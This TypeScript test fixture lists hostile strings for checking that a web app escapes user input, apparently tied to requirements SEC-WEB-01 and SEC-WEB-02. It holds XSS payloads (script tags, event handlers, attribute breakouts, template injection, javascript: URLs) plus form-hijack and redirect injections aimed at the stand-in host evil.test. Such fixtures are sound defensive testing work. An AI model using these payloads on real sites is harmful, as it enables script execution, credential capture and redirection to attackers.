/** What somebody might send to have it run in the page of somebody else (SEC-WEB-01, SEC-WEB-02). */

export const hostileTexts: readonly (readonly [string, string])[] = [
  ['a script', '<script>window.hacked=1</script>'],
  ['an image that fails', '<img src=x onerror="window.hacked=1">'],
  ['the end of an attribute', `" autofocus onfocus="window.hacked=1" x="`],
  ['the end of an attribute in single quotes', `' onmouseover='window.hacked=1' x='`],
  [
    'the end of a title, a style and a script',
    '</title></style></script><svg onload=window.hacked=1>',
  ],
  ['the end of a text area', '</textarea></form><form action="https://evil.test"><input name=x>'],
  ['the end of a script in a string', '</script><script>window.hacked=1</script><!--'],
  ['a string of a script', `'-alert(1)-'";window.hacked=1//\\`],
  ['a template of a script', '${window.hacked=1}{{constructor.constructor("window.hacked=1")()}}'],
  ['entities', '&lt;script&gt;window.hacked=1&lt;/script&gt;&#60;img src=x&#62;'],
  ['a comment', '--><img src=x onerror=window.hacked=1><!--'],
  ['line separators', 'a\u2028window.hacked=1\u2029</script>'],
  ['an address', 'javascript:window.hacked=1'],
  ['other quotes', '`onload=window.hacked=1`'],
  ['NUL and direction marks', '\u0000<\u202escript\u0000>\u200b'],
  [
    'a base and a refresh',
    '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">',
  ],
]
